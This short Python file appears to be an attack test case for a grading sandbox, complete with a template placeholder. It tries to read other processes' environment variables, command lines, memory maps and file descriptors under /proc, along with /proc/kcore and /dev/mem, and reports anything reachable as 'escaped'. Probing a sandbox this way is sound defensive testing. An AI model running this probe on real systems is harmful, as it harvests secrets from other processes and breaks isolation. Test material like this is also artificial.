# attack: /proc and /sys are read for other processes' command lines, environments, folders and descriptors.
# wants: harm
# assignment: 05_bce_neuron
# expects: graded
# %% first
import glob, os
wanted = [f"/proc/{pid}/{what}" for pid in ("self", 1, os.getppid(), @DECOY@) for what in ("environ", "cmdline", "maps", "fd", "root/etc", "cwd/..")]
for path in [*wanted, "/proc", "/sys/kernel", "/proc/net/tcp", "/proc/sysvipc/shm", "/proc/kcore", "/dev/mem"]:
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10)
        print("escaped:", path, str(found)[:60])
    except OSError:
        pass
